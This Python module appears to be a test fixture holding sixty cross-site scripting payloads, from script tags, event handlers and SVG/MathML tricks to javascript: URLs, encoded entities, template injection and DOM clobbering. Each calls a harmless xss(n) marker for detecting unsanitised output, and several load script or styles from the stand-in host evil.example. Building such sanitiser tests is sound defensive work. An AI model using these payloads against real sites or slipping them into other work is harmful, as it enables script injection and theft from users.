"""Sixty texts that would run, load or break something if a page ever took them for more than text.

Each calls `xss(its number)` where it can, and marks what it makes with `data-evil`, so that markup is noticed even
where the policy keeps it from running.
"""

from __future__ import annotations

_TEXTS = (
    # scripts
    "<script data-evil>xss({n})</script>",
    "<ScRiPt data-evil>xss({n})</sCrIpT >",
    "</script><script data-evil>xss({n})</script>",
    "<script data-evil src=//evil.example/{n}.js></script>",
    "<script type=module data-evil>import 'data:text/javascript,xss({n})'</script>",
    "<<script data-evil>xss({n})//<</script>",
    "<script\x0cdata-evil>xss({n})</script\x0c>",
    # listeners
    "<img src=x data-evil onerror=xss({n})>",
    "<img data-evil src=`x` onerror=`xss({n})`>",
    '"><img data-evil src=x onerror="xss({n})">',
    "'><img data-evil src=x onerror='xss({n})'>",
    "<body data-evil onload=xss({n})>",
    "<input data-evil autofocus onfocus=xss({n})>",
    "<details data-evil open ontoggle=xss({n})><summary>x</summary></details>",
    "<video data-evil><source onerror=xss({n})></video>",
    "<marquee data-evil onstart=xss({n})>x</marquee>",
    "<p data-evil onpointerenter=xss({n}) style='position:fixed;inset:0'>x</p>",
    "<a data-evil id=x tabindex=1 onfocusin=xss({n})>x</a>",
    '" onmouseover="xss({n})" data-evil="',
    "' autofocus onfocus='xss({n})' data-evil='",
    # drawings and formulas
    "<svg data-evil onload=xss({n})>",
    "<svg data-evil><script>xss({n})</script></svg>",
    "<svg data-evil><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg data-evil><a xlink:href='javascript:xss({n})'><text y=20>x</text></a></svg>",
    "<svg data-evil><foreignObject><iframe srcdoc='<script>parent.xss({n})</script>'></iframe></foreignObject></svg>",
    "<math data-evil><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=xss({n})&gt;'>",
    "<math data-evil href='javascript:xss({n})'>x</math>",
    "<svg data-evil><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=xss({n})/>#x'/>",
    # addresses
    "javascript:xss({n})",
    "JaVaScRiPt:xss({n})",
    "java\tscript:xss({n})",
    "\x01javascript:xss({n})",
    "javascript&colon;xss({n})",
    "data:text/html,<script data-evil>parent.xss({n})</script>",
    "//evil.example/{n}",
    "[a link](javascript:xss({n}))",
    "![a picture](x onerror=xss({n}))",
    '/observation/1?x="><img data-evil src=x onerror=xss({n})>',
    # frames and what else loads
    "<iframe data-evil srcdoc='<script>parent.xss({n})</script>'></iframe>",
    "<iframe data-evil src='javascript:parent.xss({n})'></iframe>",
    "<object data-evil data='javascript:xss({n})'></object>",
    "<embed data-evil src='javascript:xss({n})'>",
    "<base data-evil href='//evil.example/'>",
    "<meta data-evil http-equiv=refresh content='0;url=javascript:xss({n})'>",
    "<link data-evil rel=stylesheet href=//evil.example/{n}.css>",
    "<form data-evil action='javascript:xss({n})'><button>x</button></form>",
    "<template data-evil><script>xss({n})</script></template><div is=x onclick=xss({n})>",
    # style
    "<style data-evil>*{{background:url('javascript:xss({n})')}}</style>",
    "<div data-evil style='background:url(//evil.example/{n});width:expression(xss({n}))'>x</div>",
    "</style><img data-evil src=x onerror=xss({n})>",
    # entities, templates, other alphabets
    "&lt;img data-evil src=x onerror=xss({n})&gt;",
    "&#60;script data-evil&#62;xss({n})&#60;/script&#62;",
    "\\u003cimg data-evil src=x onerror=xss({n})\\u003e",
    "${{xss({n})}} {{{{constructor.constructor('xss({n})')()}}}} <%= xss({n}) %> #{{xss({n})}}",
    "\uff1cimg data-evil src=x onerror=xss({n})\uff1e \u202e<gnp.x=crs gmi\u202c \u2028xss({n})\u2029",
    # broken nesting
    "<!--><img data-evil src=x onerror=xss({n})>--><![CDATA[><img data-evil src=x onerror=xss({n})>]]>",
    "</textarea></title></noscript></select></dialog></main><img data-evil src=x onerror=xss({n})>",
    # names that stand for something else
    "<form data-evil id=view name=body><input name=append><input name=querySelector></form><a id=toasts name=xss>{n}",
    "__proto__",
    "constructor",
)
PAYLOADS = tuple(text.format(n=number) for number, text in enumerate(_TEXTS))
